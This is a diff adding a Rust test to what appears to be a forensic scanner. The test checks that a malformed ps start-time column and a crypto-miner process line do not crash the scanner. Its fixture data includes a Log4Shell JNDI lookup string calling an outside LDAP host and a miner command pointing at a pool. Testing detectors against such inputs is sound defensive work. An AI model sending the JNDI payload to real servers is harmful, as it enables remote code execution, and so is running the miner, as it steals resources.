@@ -359,3 +359,17 @@ fn the_real_capture_implant_is_a_relaunch_loop_with_its_callback() {
         .collect();
     assert_eq!(stages, ["persistence", "command and control"]);
 }
+
+#[test]
+fn a_hostile_ps_start_column_is_no_time_not_a_crash() {
+    let dir = tempfile::tempdir().unwrap();
+    let top = "UID PID PPID C STIME TTY TIME CMD\n\
+               root 1 0 0 9999999999999999:59 ? 00:00:00 /tmp/x -o pool.example.net:3333 -u x\n";
+    let log = "{\"log\":\"GET /?x=${jndi:ldap://198.51.100.9:1389/a} 200\\n\",\"stream\":\"stdout\",\"time\":\"2026-01-01T00:00:00Z\"}\n";
+    write_files(dir.path(), &[("top.txt", top.as_bytes()), ("c-json.log", log.as_bytes())]);
+    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    assert_ne!(code, 101, "a panic");
+    let b = &v["bundles"][0];
+    let m = fact(b, "proc.miner", "");
+    assert!(m["when"].get("not_before").is_none(), "{}", m["when"]);
+}
